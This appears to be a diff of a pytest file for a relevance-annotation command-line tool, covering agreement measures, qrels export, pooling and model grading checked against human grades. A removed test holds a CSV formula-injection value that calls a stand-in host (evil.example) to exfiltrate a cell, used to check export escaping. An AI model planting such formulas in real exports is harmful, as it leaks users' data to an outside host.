@@ -1,19 +1,17 @@
-"""Annotation from the command line, as a script drives it."""
+"""Annotation from the command line, as a script drives it, also with a model that grades."""
 
-import csv
-import io
+from __future__ import annotations
+
 import json
 from math import log2
 
 import pytest
 
-from engine.types.annotating import Judgment
-from engine.types.corpora import ImportRequest
-from tests.cli.command_line import assert_refused, run_inside, run_json, run_process
-from tests.fakes.small_corpus import DOCUMENTS
-from tests.support import make_explorer, write_jsonl
+from tests.cli.command_line import assert_refused, connected, run_inside, run_json
+from tests.engine.annotate.conftest import grader as grader
+from tests.engine.annotate.grading_steps import JUDGE, QUERY, make_project
+from tests.support import make_explorer
 
-QUERY = "bees-network_method"
 ITEM = ("--query", QUERY, "--doc", "bread-network")
 
 
@@ -79,38 +77,27 @@ def test_from_a_project_to_qrels(corpus, tmp_path):
     assert_refused(refused, "leads are lead")
     run_json(corpus, *judged, first, *decision, "lead")
     rows = {row["doc_id"]: row for row in exported(corpus, "--project", "p")}
-    assert {d: (r["relevance"], r["basis"]) for d, r in rows.items()} == {
-        first: (2, "adjudicated"),
-        second: (2, "agreed"),
+    assert {d: (r["relevance"], r["by"]) for d, r in rows.items()} == {
+        first: (2, "lead"),
+        second: (2, ""),
     }
-    decided = rows[first]
-    assert (decided["annotator"], decided["note"], decided["by"]) == ("adjudicated", "so", "lead")
     own = exported(corpus, "--project", "p", "--per-annotator")
-    assert [(r["annotator"], r["relevance"]) for r in own if r["doc_id"] == first] == [
-        *(("ann", 3), ("bob", 1), ("lead", 2))
-    ]
+    assert [r["annotator"] for r in own if r["doc_id"] == first] == ["ann", "bob", "lead"]
 
 
 def agreement_is_measured_over_two_items(corpus, split_on):
     """Of Ann and Bob: one item graded alike, one not."""
     command = ("agreement", "small", "--project", "p")
     agreed = run_json(corpus, *command)
-    human = {who: measures["nDCG@20"] for who, measures in agreed["human"].items()}
-    assert human == {
-        "ann": pytest.approx((1 + 2 / log2(3)) / (2 + 1 / log2(3))),
-        "bob": pytest.approx((2 + 3 / log2(3)) / (3 + 2 / log2(3))),
-    }
+    human = agreed["human"]["ann"]["nDCG@20"]
+    assert human == pytest.approx((1 + 2 / log2(3)) / (2 + 1 / log2(3)))
     assert agreed["measures"]["raw"] == {"value": 0.5, "interval": None, "items": 2}
     assert agreed["by_aspect"]["method"]["krippendorff_alpha"]["items"] == 2
     (pair,) = agreed["pairs"]
     assert (pair["annotators"], pair["confusion"][3]) == (["ann", "bob"], [0, 1, 0, 0])
-    lines = run_inside(corpus, *command).stdout.splitlines()
-    matrix = lines.index("rows: ann, columns: bob")
-    assert [line.split() for line in lines[matrix + 1 : matrix + 6]] == [
-        *(["0", "1", "2", "3"], ["0", "0", "0", "0", "0"], ["1", "0", "0", "0", "0"]),
-        *(["2", "0", "0", "1", "0"], ["3", "0", "1", "0", "0"]),
-    ]
-    assert ["ann", "0.860", "–", "1"] in [line.split() for line in lines]
+    lines = [line.split() for line in run_inside(corpus, *command).stdout.splitlines()]
+    for line in (["3", "0", "1", "0", "0"], ["ann", "0.860", "–", "1"]):
+        assert line in lines
     (split,) = run_json(corpus, *command, "--disagreements")
     assert (split["doc_id"], split["spread"], split["said"]) == (split_on, 2, {"ann": 3, "bob": 1})
     assert "ann 3, bob 1" in run_inside(corpus, *command, "--disagreements").stdout
@@ -138,17 +125,6 @@ def test_a_project_is_shared_out_copied_renamed_deleted_and_brought_back(corpus,
     assert [p["name"] for p in run_json(corpus, "project", "list", "small")] == ["r"]
     assert run_json(corpus, "project", "restore", "small", "q")["name"] == "q"
     assert_refused(run_inside(corpus, "project", "copy", "small", "r", "q"), "project 'q' already")
-
-
-def test_csv_is_for_spreadsheets_where_it_is_asked_for(corpus):
-    formula = '=HYPERLINK("https://evil.example?"&A1)'
-    run_json(corpus, "judge", "small", *ITEM, "--grade", 2, "--annotator", "ann", "--note", formula)
-    export = ("qrels", "export", "small", "--per-annotator", "--format", "csv")
-    notes = []
-    for more in ((), ("--spreadsheet",)):
-        table = run_inside(corpus, *export, *more).stdout
-        notes += [row["note"] for row in csv.DictReader(io.StringIO(table))]
-    assert notes == [formula, f"'{formula}"]
 
 
 def test_qrels_are_exported_and_imported_and_a_broken_file_changes_nothing(corpus, tmp_path):
@@ -192,17 +168,6 @@ def test_a_pool_takes_runs_and_names_what_is_missing(corpus, tmp_path):
     assert [one["system"] for one in both] == ["bm25", "mine"]
     assert "Judged@2" in run_inside(corpus, *pool, "bm25", "--unjudged").stdout
 
-    left = [one for one in DOCUMENTS if one["doc_id"] != "bees-network"]
-    source = write_jsonl(tmp_path / "left.jsonl", left)
-    explorer = make_explorer(corpus)
-    explorer.library.delete("small")
-    explorer.library.import_documents(ImportRequest(source, "small"))
-    gone = run_inside(corpus, "pool", "small", "--systems", "bm25")
-    assert (gone.code, gone.stderr) == (
-        0,
-        f"Warning: 1 query is skipped (seed or aspect not in the corpus): {QUERY}.\n",
-    )
-
 
 def test_a_project_s_people_are_cleared_and_a_scale_is_read(corpus, tmp_path):
     people = ("--annotator", "ann", "--lead", "me")
@@ -217,10 +182,56 @@ def test_a_project_s_people_are_cleared_and_a_scale_is_read(corpus, tmp_path):
     assert changed["scale"]["grades"][1]["meaning"] == "all of it"
 
 
-def test_the_command_judges_beside_an_open_app_and_each_sees_the_other(corpus):
-    annotation = make_explorer(corpus).annotation
-    project = annotation.project("small")
-    annotation.judge(project, Judgment(QUERY, "bread-network", "ann", 1))
-    there = run_process(corpus, "judge", "small", *ITEM, "--grade", 3, "--annotator", "bob")
-    assert there.code == 0, there.stderr
-    assert {j.annotator: j.relevance for j in annotation.judgments(project)} == {"ann": 1, "bob": 3}
+@pytest.fixture
+def pooled(corpus):
+    """A home with a project of twelve items."""
+    make_project(make_explorer(corpus), depth=12)
+    return corpus
+
+
+def test_a_pool_is_estimated_graded_checked_and_counts_when_the_project_says_so(pooled, grader):
+    model, export = connected(grader), ("qrels", "export", "small", "--project", "p")
+    command = ("grade", "small", "--project", "p")
+    ahead = run_inside(pooled, *command, "--estimate", "--json", **model)
+    assert ahead.json["estimate"]["candidates"] == 12
+    assert "12 calls, at most 34 with repeats" in ahead.stderr
+    first = run_json(pooled, *command, "--limit", 5, "--yes", **model)
+    assert first["report"]["graded"] == 5
+    rest = run_inside(pooled, *command, "--yes", **model)
+    assert rest.code == 0, rest.stderr
+    assert "5 have this model's grade already" in rest.stderr
+    assert f"{JUDGE}: 7 candidates graded" in rest.stdout
+
+    shown = run_json(pooled, "project", "show", "small", "p")
+    assert (shown["by_models"], JUDGE in shown["progress"]) == ({JUDGE: 12}, False)
+    assert_refused(run_inside(pooled, *export), "graded by a model only")
+    own = run_inside(pooled, *export, "--format", "jsonl", "--per-annotator")
+    assert own.stdout.count('"origin": "model"') == 12
+
+    people_check_what_the_model_graded(pooled)
+
+    changed = run_inside(pooled, "project", "change", "small", "p", "--model-grades")
+    assert "grades by models count" in changed.stdout
+    counted = run_inside(pooled, *export)
+    assert "rest on a model alone" in counted.stderr
+    assert len(counted.stdout.splitlines()) >= 12
+
+
+def people_check_what_the_model_graded(pooled):
+    """Ada grades three documents; where she and the model differ is told."""
+    command = ("grade", "small", "--project", "p")
+    for doc_id, grade in (("bridges-network", 3), ("tides-network", 1), ("bees-survey", 0)):
+        told = ("--query", QUERY, "--doc", doc_id, "--grade", grade, "--annotator", "Ada")
+        run_json(pooled, "judge", "small", "--project", "p", *told)
+    check = run_json(pooled, *command, "--check")
+    assert (check["graded"], check["annotator"]) == (12, JUDGE)
+    assert [(d["doc_id"], d["people"], d["model"]) for d in check["differences"]] == [
+        ("tides-network", 1, 3)
+    ]
+    words = run_inside(pooled, *command, "--check").stdout
+    assert "Cohen's kappa (quadratic)" in words
+    assert "Ada 1, model 3: Tides by network does the same." in words
+    agreed = run_inside(pooled, "agreement", "small", "--project", "p")
+    assert "Against language models" in agreed.stdout
+    pairs = run_json(pooled, "agreement", "small", "--project", "p")["pairs"]
+    assert [(p["annotators"], p["with_model"]) for p in pairs] == [(["Ada", JUDGE], True)]
